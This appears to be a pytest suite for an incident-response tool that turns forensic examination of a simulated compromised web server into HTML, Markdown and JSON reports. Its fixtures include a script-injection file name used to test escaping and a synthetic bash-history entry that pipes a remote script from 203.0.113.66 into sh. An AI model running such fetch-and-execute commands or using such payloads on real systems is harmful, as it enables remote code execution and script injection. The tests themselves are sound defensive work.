from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from examiner.findings import Finding
from examiner.memory import ANALYSED, MemoryAnalysis, PluginRun
from examiner.report import (
    RECENT_EVENTS,
    CaseReportInput,
    EvidenceItem,
    containment_rows,
    events_per_hour,
    md_escape,
    render_report,
)
from examiner.runner import DiskImage, ExaminationResult, examine_case
from examiner.timeline import BodyfileEntry, timeline_events
from handlers.common.evidence import Artefact
from simulation.disk_images import (
    HOSTILE_NAME,
    PlantedTree,
    build_compromised_webserver_tree,
    build_ext4_image,
    wrap_in_gpt,
)

INCIDENT = datetime(2024, 6, 1, 3, 0, tzinfo=UTC)
CASE_ID = "111122223333-i-0abc12345def67890-eu-west-1-1717214400"
SCRIPT_NAME = "<script>alert(1)</script>.php"
BEFORE = {
    "NetworkInterfaces": {"eni-0a": ["sg-0web"], "eni-0b": ["sg-0db", "sg-0mgmt"]},
    "IamInstanceProfile": "arn:aws:iam::111122223333:instance-profile/web",
    "DisableApiTermination": False,
}
AFTER = {
    "NetworkInterfaces": {"eni-0a": ["sg-0iso"], "eni-0b": ["sg-0iso"]},
    "IamInstanceProfile": "arn:aws:iam::111122223333:instance-profile/irf-ir-isolation-eu-west-1",
    "DisableApiTermination": True,
}


@pytest.fixture(scope="module")
def examined(tmp_path_factory: pytest.TempPathFactory) -> tuple[PlantedTree, ExaminationResult]:
    work = tmp_path_factory.mktemp("report")
    tree = build_compromised_webserver_tree(work / "tree", INCIDENT)
    image = wrap_in_gpt(build_ext4_image(tree, work / "ext4.img"), work / "vol-0aaa.img")
    return tree, examine_case([DiskImage(image, "vol-0aaa")], None, work / "case", incident_window=tree.incident_window)


def case_input(result: ExaminationResult, **changes: Any) -> CaseReportInput:
    fields: dict[str, Any] = dict(
        case_id=CASE_ID,
        instance_id="i-0abc12345def67890",
        account="111122223333",
        region="eu-west-1",
        trigger="tag",
        action="Contain",
        stages=[
            ("contain", INCIDENT + timedelta(hours=7), INCIDENT + timedelta(hours=7, minutes=1), "SUCCEEDED"),
            (
                "acquire",
                INCIDENT + timedelta(hours=7, minutes=1),
                INCIDENT + timedelta(hours=7, minutes=20),
                "SUCCEEDED",
            ),
        ],
        containment_before=BEFORE,
        containment_after=AFTER,
        evidence=[EvidenceItem(f"{CASE_ID}/disk/vol-0aaa.img", 18874368, "a" * 64, "vol-0aaa", "ebs-direct-apis")],
        findings=result.findings,
        timeline=result.entries,
        memory=result.memory,
        notes=["memory image is synthetic (local simulation)"],
        incident_window=result.incident_window,
        filesystems=[vars(fs) for fs in result.filesystems],
        generated_at=INCIDENT + timedelta(hours=8),
    )
    fields.update(changes)
    return CaseReportInput(**fields)


@pytest.fixture(scope="module")
def report(examined: tuple[PlantedTree, ExaminationResult]) -> dict[str, str]:
    rendered = render_report(case_input(examined[1]))
    assert set(rendered) == {"report.html", "report.md", "report.json"}
    return {name: visible(body.decode()) for name, body in rendered.items()}


def visible(html: str) -> str:
    """The HTML without its <wbr> break opportunities (ids and paths wrap between their parts)."""
    return html.replace("<wbr>", "")


def test_report_lists_every_planted_file_as_suspicious(
    examined: tuple[PlantedTree, ExaminationResult], report: dict[str, str]
) -> None:
    tree = examined[0]
    document = json.loads(report["report.json"])
    listed = {f["path"] for f in document["findings"]}
    for planted in tree.planted:
        assert planted.path in listed, planted.why
        if planted.path.isascii() and "<" not in planted.path:
            assert planted.path in report["report.html"]
            assert md_escape(planted.path) in report["report.md"]


def test_suspicious_findings_come_first_most_severe_first(report: dict[str, str]) -> None:
    html = report["report.html"]
    assert html.index("Suspicious findings") < html.index("Containment") < html.index("File-system timeline")
    severities = re.findall(r'<td><span class="sev sev-(\w+)">', html)
    order = ["critical", "high", "medium", "low", "info"]
    assert severities == sorted(severities, key=order.index)
    assert severities[0] == "critical"


def test_hostile_file_names_are_escaped_in_html_and_markdown(examined: tuple[PlantedTree, ExaminationResult]) -> None:
    result = examined[1]
    hostile = BodyfileEntry(
        md5="0",
        name=f"/vol-0aaa/p1/var/www/html/{SCRIPT_NAME}",
        inode="99",
        mode="r/rrw-r--r--",
        uid=33,
        gid=33,
        size=30,
        atime=0,
        mtime=int((INCIDENT + timedelta(minutes=4)).timestamp()),
        ctime=0,
        crtime=0,
    )
    finding = Finding("high", "web-root", "/vol-0aaa/p1", f"/var/www/html/{SCRIPT_NAME}", "script", INCIDENT)
    rendered = render_report(
        case_input(result, findings=[*result.findings, finding], timeline=[*result.entries, hostile])
    )
    html, markdown = visible(rendered["report.html"].decode()), rendered["report.md"].decode()
    for text in (html, markdown):
        assert "<script" not in text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;.php" in text
        assert HOSTILE_NAME not in text
        assert "&lt;script&gt;alert(1)&lt;!--.php" in text
    assert json.loads(rendered["report.json"].decode())["findings"][-1]["path"] == f"/var/www/html/{SCRIPT_NAME}"


def test_html_report_is_self_contained(report: dict[str, str]) -> None:
    html = report["report.html"]
    assert "<script" not in html
    assert "<link" not in html
    assert "@import" not in html and "url(" not in html
    # Links only within the page (narrative steps to their findings), never to anything outside it.
    assert re.search(r"\s(src|href)\s*=\s*\"(?!#)", html) is None
    assert "<style>" in html and "<svg" in html


def test_chart_counts_events_per_hour_around_the_incident(examined: tuple[PlantedTree, ExaminationResult]) -> None:
    result = examined[1]
    events = timeline_events(result.entries)
    chart = events_per_hour(events, result.incident_window)
    assert result.incident_window is not None
    start, end = result.incident_window
    assert chart.start == start - timedelta(hours=12)
    assert len(chart.bars) == int((end - start).total_seconds() // 3600) + 24
    incident_hour = next(bar for bar in chart.bars if bar.hour == INCIDENT)
    assert incident_hour.count == sum(1 for e in events if INCIDENT <= e.time < INCIDENT + timedelta(hours=1))
    assert incident_hour.count > 0 and incident_hour.in_window
    assert chart.outside == len(events) - sum(bar.count for bar in chart.bars)
    assert chart.svg.count("<rect ") == len(chart.bars)


def test_the_most_recent_fifty_events_are_listed_newest_first(
    report: dict[str, str], examined: tuple[PlantedTree, ExaminationResult]
) -> None:
    recent = json.loads(report["report.json"])["timeline"]["recent_events"]
    events = timeline_events(examined[1].entries)
    assert len(recent) == min(RECENT_EVENTS, len(events))
    assert [r["time"] for r in recent] == sorted((r["time"] for r in recent), reverse=True)
    assert recent[0]["time"] == max(e.time for e in events).isoformat()


def test_containment_before_and_after_are_shown_side_by_side(report: dict[str, str]) -> None:
    rows = {row["key"]: row for row in containment_rows(BEFORE, AFTER)}
    assert rows["NetworkInterfaces"]["changed"] and rows["DisableApiTermination"]["changed"]
    assert "sg-0mgmt" in rows["NetworkInterfaces"]["before"] and "sg-0iso" in rows["NetworkInterfaces"]["after"]
    assert "irf-ir-isolation-eu-west-1" in report["report.html"]
    assert containment_rows(None, {"Isolated": True}) == [
        {"key": "Isolated", "before": "", "after": "True", "changed": True}
    ]


def test_case_summary_stages_evidence_and_notes_are_in_every_format(report: dict[str, str]) -> None:
    for text in (report["report.html"], report["report.md"]):
        assert "i-0abc12345def67890" in text and "111122223333" in text and "eu-west-1" in text
        assert "a" * 64 in text
        assert "18.0 MiB" in text
        # Durations are written out (the issue: 0.99 s showed as 0:00:00).
        assert "19 min 0 s" in text
        assert "memory image is synthetic (local simulation)" in text
    document = json.loads(report["report.json"])
    assert document["case_id"] == CASE_ID
    assert document["stages"][1] == {
        "stage": "acquire",
        "start": "2024-06-01T10:01:00+00:00",
        "end": "2024-06-01T10:20:00+00:00",
        "status": "SUCCEEDED",
    }
    assert document["evidence"][0]["sha256"] == "a" * 64


def test_memory_reason_is_given_when_it_was_not_analysed(report: dict[str, str]) -> None:
    assert "not analysed: no memory image was acquired for this case" in report["report.md"]
    assert "<strong>not analysed</strong>: no memory image was acquired for this case" in report["report.html"]


def test_analysed_memory_shows_each_plugin_and_its_rows(examined: tuple[PlantedTree, ExaminationResult]) -> None:
    memory = MemoryAnalysis(
        status=ANALYSED,
        image="i-0abc.lime",
        plugins=[
            PluginRun("linux.bash", True, "linux.bash.json", 1),
            PluginRun("linux.malfind", False, error="exit 1: boom"),
        ],
    )
    rows = {
        "linux.bash": [
            {"PID": 4242, "Process": "bash", "Command": "curl http://203.0.113.66/k.sh | sh", "__children": []}
        ]
    }
    html = visible(render_report(case_input(examined[1], memory=memory, memory_rows=rows))["report.html"].decode())
    assert "analysis/volatility/linux.bash.json" in html
    assert "curl http://203.0.113.66/k.sh | sh" in html
    assert "exit 1: boom" in html


def test_evidence_items_come_from_the_evidence_store_artefacts() -> None:
    artefact = Artefact(
        key=f"{CASE_ID}/disk/vol-0aaa.img",
        size=10,
        sha256="b" * 64,
        source="snap-1",
        tool="ebs-direct",
        time="2024-06-01T10:00:00.000000Z",
    )
    assert EvidenceItem.from_artefact(artefact) == EvidenceItem(artefact.key, 10, "b" * 64, "snap-1", "ebs-direct")
    assert EvidenceItem.from_artefact(vars(artefact)) == EvidenceItem.from_artefact(artefact)


def test_markdown_escaping_neutralises_tables_and_html() -> None:
    assert md_escape("a|b <i>x</i> `c`") == "a\\|b &lt;i&gt;x&lt;/i&gt; \\`c\\`"
    assert md_escape(None) == ""


def test_a_report_renders_with_no_evidence_at_all(tmp_path: Path) -> None:
    rendered = render_report(
        CaseReportInput(
            case_id=CASE_ID,
            instance_id="i-0abc12345def67890",
            account="111122223333",
            region="eu-west-1",
            trigger="manual",
            action="Analyze",
        )
    )
    html = rendered["report.html"].decode()
    assert "No suspicious findings." in html
    assert "No file-system events" in html
    assert json.loads(rendered["report.json"])["timeline"]["events"] == 0
